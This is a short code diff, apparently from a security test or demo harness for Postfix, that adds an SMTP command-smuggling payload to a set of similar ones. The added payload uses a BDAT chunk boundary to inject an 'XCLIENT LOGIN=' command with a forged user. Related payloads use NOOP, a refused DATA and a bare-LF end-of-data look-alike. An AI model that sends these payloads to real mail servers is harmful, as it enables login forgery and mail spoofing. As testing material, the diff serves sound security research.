@@ -480,6 +480,11 @@ XCLIENT_AFTER_LOGIN = {
     "after another command": b"NOOP\r\nXCLIENT LOGIN=" + FORGED.encode() + b"\r\n",
     # DATA without a transaction is refused (503), so what follows is read as commands.
     "after a refused DATA": b"DATA\r\nXCLIENT LOGIN=" + FORGED.encode() + b"\r\n",
+    # A BDAT chunk ends where its count says, mid-line: Postfix reads the XCLIENT right after
+    # the two bytes "hi" as a command (CHUNKING is on in Debian 12's Postfix by default).
+    "after a BDAT chunk": (
+        f"MAIL FROM:<{DEMO[0]}>\r\nRCPT TO:<{SMUGGLE_RCPT}>\r\nBDAT 2 LAST\r\nhi"
+        f"XCLIENT LOGIN={FORGED}\r\n").encode(),
     # Debian 12's Postfix ends a message at \n.\n (see the smuggling test above).
     "after an end-of-data look-alike": (
         f"MAIL FROM:<{DEMO[0]}>\r\nRCPT TO:<{SMUGGLE_RCPT}>\r\nDATA\r\nSubject: lookalike\r\n\r\nbody\n.\n"
